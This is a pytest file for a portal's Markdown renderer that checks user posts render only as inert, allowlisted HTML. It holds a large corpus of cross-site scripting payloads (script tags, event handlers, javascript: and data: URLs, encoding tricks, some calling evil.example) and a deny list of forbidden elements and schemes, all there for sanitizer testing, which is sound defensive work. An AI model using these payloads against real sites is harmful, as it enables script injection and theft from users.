"""What can user Markdown turn into? Only inert, allowlisted HTML.

`assert_inert_html` and `HOSTILE_INPUTS` are shared: any module that shows
user-authored HTML can import them and run the same corpus through its path.
"""

import html
import re
import unicodedata
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from portal.community.markdown import SANITIZER_VERSION, Rendered, render, render_inline_title

# --- The inertness checker ----------------------------------------------------

FORBIDDEN_ELEMENTS = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "form",
     "input", "button", "select", "textarea", "meta", "base", "link", "template", "noscript", "xmp",
     "plaintext", "noembed", "noframes", "body", "html", "head", "title", "video", "audio", "source"}
)
SAFE_URL_SCHEMES = frozenset({"http", "https", "mailto"})
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "background", "poster", "srcset", "data", "cite",
     "longdesc", "lowsrc", "dynsrc", "ping"}
)
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_SCRIPT_SCHEMES = re.compile(r"(javascript|vbscript|data|livescript):")


class _ElementCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def _squash(value):
    """An attribute value as a lenient browser might read it: unescaped, no whitespace or invisible chars."""
    value = html.unescape(value)
    return "".join(ch for ch in value if not ch.isspace() and unicodedata.category(ch) not in ("Cc", "Cf")).lower()


def assert_inert_html(markup):
    """Fail unless `markup` holds no element, attribute or URL that can run script or restyle the page."""
    text = str(markup)
    # Text "<" is always escaped, so a literal "<script" anywhere is a tag,
    # whatever a particular parser makes of the surrounding mess.
    for name in FORBIDDEN_ELEMENTS:
        assert not re.search(rf"<\s*/?\s*{name}\b", text, re.IGNORECASE), f"<{name}> in {text!r}"
    collector = _ElementCollector()
    collector.feed(text)
    collector.close()
    for tag, attrs in collector.elements:
        assert tag not in FORBIDDEN_ELEMENTS, f"<{tag}> in {text!r}"
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), f"event handler {name} on <{tag}> in {text!r}"
            assert name != "style", f"style on <{tag}> in {text!r}"
            squashed = _squash(value)
            assert not _SCRIPT_SCHEMES.search(squashed), f"{name}={value!r} on <{tag}> in {text!r}"
            if name in URL_ATTRIBUTES:
                scheme = _SCHEME.match(squashed)
                assert scheme is None or scheme.group(1) in SAFE_URL_SCHEMES, f"{name}={value!r} in {text!r}"


# --- The hostile corpus -------------------------------------------------------

HOSTILE_INPUTS = [
    # <script>, every which way
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script\n>alert(1)</script\n>",
    "<div><p><script>alert(1)</script></p></div>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <script>alert(1)</script>",
    # other active or page-altering elements
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<form action=\"https://evil.example\"><input name=p><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<video><source onerror=alert(1)></video>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<img/src=x/onerror=alert(1)>",
    "<a onmouseover=\"alert(1)\">hover</a>",
    "<div onclick=\"alert(1)\">click</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    # script URLs in Markdown links and images
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0Aalert(1))",
    "[x](javascript:alert(1) \"title\")",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](java\u200bscript:alert(1))",
    "[x](java\x00script:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](vbscript:msgbox(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x][r]\n\n[r]: data:image/svg+xml,<svg onload=alert(1)>",
    "[x][r]\n\n[r]: https://a.example \"t\\\" onclick=\\\"alert(1)\"",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "javascript:alert(1) www.example.com/<script>alert(1)</script>",
    # entity tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    # broken and nested markup, attribute breaking
    "<<img src=x onerror=alert(1)//>",
    "<img src=x onerror=alert(1)//",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](https://a.com\" onmouseover=\"alert(1))",
    "[x](https://a.com 'x\" onmouseover=\"alert(1)')",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/x.png \"t\\\" onerror=\\\"alert(1)\")",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "```<script>\nx\n```",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://ok.example\" target=_blank rel=opener>x</a>",
    "@bob\"onmouseover=alert(1) @bob<script>",
    # styles
    "<p style=\"width: expression(alert(1))\">x</p>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<span style=\"behavior: url(x.htc)\">x</span>",
    # invisible and control characters
    "\u202egnp.exe",
    "[\u202egnp.exe](https://a.example/file.exe)",
    "a\u200b\u200c\u200d\ufeffb [x\u200b](https://a.example)",
    "<scr\x00ipt>alert(1)</script>",
    "<img src=x \x00onerror=alert(1)>",
    # very long inputs
    "<script>" * 5000,
    "[" * 20000 + "x" + "](javascript:alert(1))" * 3,
    "> " * 5000 + "<img src=x onerror=alert(1)>",
    "*" * 50000 + "<svg onload=alert(1)>",
    "a" * 200000 + "<script>alert(1)</script>",
    "- " * 3000 + "[x](javascript:alert(1))",
]


def _hostile_id(source):
    return ascii(source[:48])


def _every_member(handle):
    return f"/u/{handle}"


def _hostile_resolver(handle):
    return "javascript:alert(1)"


@pytest.mark.parametrize("source", HOSTILE_INPUTS, ids=_hostile_id)
def test_hostile_input_renders_inert(source):
    """Can any hostile source produce active HTML, with links on, off, or a hostile mention resolver?"""
    for options in ({}, {"allow_links": False}, {"mention_url": _every_member}, {"mention_url": _hostile_resolver}):
        assert_inert_html(render(source, **options).html)


def test_hostile_corpus_is_big_enough():
    assert len(HOSTILE_INPUTS) >= 60


@pytest.mark.parametrize(
    "bad",
    [
        '<script>alert(1)</script>',
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JAVA&#x09;SCRIPT:alert(1)">x</a>',
        '<img src="data:image/svg+xml,x">',
        '<p style="color:red">x</p>',
        '<svg></svg>',
        '<a href="vbscript:x">x</a>',
    ],
)
def test_checker_catches_active_html(bad):
    """Does assert_inert_html actually fail on the things it guards against?"""
    with pytest.raises(AssertionError):
        assert_inert_html(bad)


# --- Normal rendering ---------------------------------------------------------

MEMBERS = {"bob": "/u/bob", "王芳": "/u/wangfang", "ann.lee": "/u/ann.lee", "dev-ops_1": "/u/dev-ops_1"}


def test_paragraphs_and_emphasis():
    out = render("Hello *world* and **bold** and ~~gone~~.\n\nSecond paragraph.")
    assert out == Rendered(
        html="<p>Hello <em>world</em> and <strong>bold</strong> and <s>gone</s>.</p>\n<p>Second paragraph.</p>\n",
        mentions=(),
    )


def test_lists_keep_their_start():
    out = render("- a\n- b\n\n3. three\n4. four").html
    assert "<ul>\n<li>a</li>\n<li>b</li>\n</ul>" in out
    assert '<ol start="3">' in out


def test_table_alignment_uses_align_not_style():
    out = render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |").html
    assert "<table>" in out and "<thead>" in out and "<tbody>" in out
    assert '<th align="left">a</th>' in out
    assert '<td align="center">2</td>' in out
    assert '<td align="right">3</td>' in out
    assert "style" not in out


def test_fenced_code_keeps_language_and_escapes_content():
    out = render("```Python\nif a < b and c > d: print('<b>')\n```").html
    assert out == (
        '<pre><code class="language-python">if a &lt; b and c &gt; d: print(\'&lt;b&gt;\')\n</code></pre>\n'
    )


def test_fenced_code_with_odd_language_loses_the_class_only():
    out = render("```objective.c!\nx\n```").html
    assert out == "<pre><code>x\n</code></pre>\n"
    assert 'class="language-c++"' in render("```c++\nx\n```").html


def test_blockquote_and_rule():
    out = render("> quoted *text*\n\n---").html
    assert out == "<blockquote>\n<p>quoted <em>text</em></p>\n</blockquote>\n<hr>\n"


def test_headings_are_demoted_below_the_page_headings():
    out = render("# One\n## Two\n### Three\n###### Six").html
    assert out == "<h3>One</h3>\n<h4>Two</h4>\n<h5>Three</h5>\n<h6>Six</h6>\n"


def test_links_get_rel_and_no_target():
    out = render('[docs](https://example.com/docs "The docs") and <https://example.org>').html
    assert (
        '<a href="https://example.com/docs" title="The docs" rel="nofollow ugc noopener">docs</a>' in out
    )
    assert '<a href="https://example.org" rel="nofollow ugc noopener">https://example.org</a>' in out
    assert "target" not in out


def test_relative_and_mailto_links_are_kept():
    out = render("[topic](/t/12#post-3) [mail](mailto:help@example.com)").html
    assert 'href="/t/12#post-3"' in out
    assert 'href="mailto:help@example.com"' in out


def test_every_link_has_the_same_rel():
    out = render("[a](https://a.example) <https://b.example> @bob <c@example.com>", mention_url=MEMBERS.get).html
    anchors = re.findall(r"<a [^>]*>", out)
    assert len(anchors) == 4
    assert all('rel="nofollow ugc noopener"' in anchor for anchor in anchors)


def test_bare_urls_are_linked_when_linkify_is_installed():
    pytest.importorskip("linkify_it")
    out = render("see https://example.com/page.").html
    assert '<a href="https://example.com/page" rel="nofollow ugc noopener">https://example.com/page</a>.' in out


def test_file_names_and_bare_domains_are_not_links():
    """Does "setup.py" stay text? Only URLs with http(s):// and e-mail addresses are linkified."""
    out = render("run setup.py, read README.md, visit example.com or www.example.com, ftp://x.example").html
    assert "<a" not in out


def test_script_urls_stay_text():
    out = render("[x](javascript:alert(1))").html
    assert out == "<p>[x](javascript:alert(1))</p>\n"


def test_images_need_an_absolute_http_url():
    out = render("![cat](https://img.example/cat.png) ![local](/static/x.png)").html
    assert '<img src="https://img.example/cat.png" alt="cat">' in out
    assert "local" in out and "/static/x.png" not in out


# --- Mentions -----------------------------------------------------------------


def test_mentions_resolve_in_order_once_each():
    out = render("@bob meet @ann.lee, and @bob again.", mention_url=MEMBERS.get)
    assert out.mentions == ("bob", "ann.lee")
    assert '<a href="/u/bob" class="mention" rel="nofollow ugc noopener">@bob</a> meet' in out.html
    assert '<a href="/u/ann.lee" class="mention" rel="nofollow ugc noopener">@ann.lee</a>, and' in out.html


def test_unknown_mentions_stay_plain():
    out = render("hi @nobody and @bob", mention_url=MEMBERS.get)
    assert out.mentions == ("bob",)
    assert "hi @nobody and <a" in out.html


def test_no_resolver_means_no_mentions():
    assert render("hi @bob") == Rendered(html="<p>hi @bob</p>\n", mentions=())


def test_emails_are_not_mentions():
    out = render("write to bob@example.com or ann.lee@bob.example", mention_url=MEMBERS.get)
    assert out.mentions == ()
    assert 'class="mention"' not in out.html


def test_mentions_in_code_and_links_are_untouched():
    source = "`@bob`\n\n```\n@bob\n```\n\n    @bob\n\n[@bob](https://a.example) https://social.example/@bob"
    out = render(source, mention_url=MEMBERS.get)
    assert out.mentions == ()
    assert "<code>@bob</code>" in out.html
    assert 'class="mention"' not in out.html


def test_escaped_at_sign_is_not_a_mention():
    out = render(r"\@bob", mention_url=MEMBERS.get)
    assert out == Rendered(html="<p>@bob</p>\n", mentions=())


def test_chinese_and_punctuated_handles():
    out = render("你好 @王芳，请看 (@dev-ops_1) and @bob.", mention_url=MEMBERS.get)
    assert out.mentions == ("王芳", "dev-ops_1", "bob")
    assert '<a href="/u/wangfang" class="mention" rel="nofollow ugc noopener">@王芳</a>' in out.html
    assert "@bob</a>.</p>" in out.html


def test_handle_length_limits():
    calls = []

    def resolver(handle):
        calls.append(handle)
        return "/u/x"

    render("@a @" + "b" * 31 + " @" + "c" * 30, mention_url=resolver)
    assert calls == ["c" * 30]


def test_resolver_is_asked_once_per_handle():
    calls = []

    def resolver(handle):
        calls.append(handle)
        return None

    render("@ann @ann @ann", mention_url=resolver)
    assert calls == ["ann"]


def test_unsafe_profile_url_leaves_mention_plain():
    out = render("@bob", mention_url=lambda handle: "javascript:alert(1)")
    assert out == Rendered(html="<p>@bob</p>\n", mentions=())


# --- allow_links=False --------------------------------------------------------


def test_without_links_only_text_remains():
    source = "[docs](https://example.com) <https://example.org> ![cat](https://img.example/cat.png) www.example.net"
    out = render(source, allow_links=False).html
    assert "<a" not in out and "<img" not in out
    assert out == "<p>docs https://example.org cat www.example.net</p>\n"


def test_without_links_mentions_still_work():
    out = render("thanks @bob, see [here](https://example.com)", allow_links=False, mention_url=MEMBERS.get)
    assert out.mentions == ("bob",)
    assert out.html == (
        '<p>thanks <a href="/u/bob" class="mention" rel="nofollow ugc noopener">@bob</a>, see here</p>\n'
    )


# --- Text hygiene and titles ---------------------------------------------------


def test_body_drops_bidi_overrides_and_control_chars():
    out = render("a\u202egnp.exe\u2066b\x00c\x07d").html
    assert out == "<p>agnp.exebcd</p>\n"


def test_body_keeps_joiners_for_emoji_and_scripts():
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert family in render(family).html


def test_title_is_escaped():
    title = render_inline_title('<script>alert("x")</script> & <b>bold</b>')
    assert title == "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;"
    assert isinstance(title, Markup)


def test_title_strips_bidi_and_invisible_controls():
    hostile = "invoice\u202egnp.exe\u2066\u2069 \u202a\u202b\u202c\u202d x\x00\x1b\u200b\ufeff\u2060y"
    assert render_inline_title(hostile) == "invoicegnp.exe  xy"


def test_title_keeps_ordinary_text_and_joiners():
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    assert render_inline_title(f"Tea & cakes — 茶\tand {family}") == f"Tea &amp; cakes — 茶\tand {family}"


def test_concurrent_renders_agree():
    """Is render safe to call from many threads at once (gunicorn gthread workers)?"""
    sources = [f"# {n}\n\n@bob https://e.example/{n} *x* <b>{n}</b>\n\n```py\n{n}\n```" for n in range(40)]
    expected = [render(source, mention_url=MEMBERS.get) for source in sources]
    with ThreadPoolExecutor(max_workers=8) as pool:
        for _ in range(5):
            assert list(pool.map(lambda source: render(source, mention_url=MEMBERS.get), sources)) == expected


def test_sanitizer_version_is_an_int():
    assert isinstance(SANITIZER_VERSION, int) and SANITIZER_VERSION >= 1
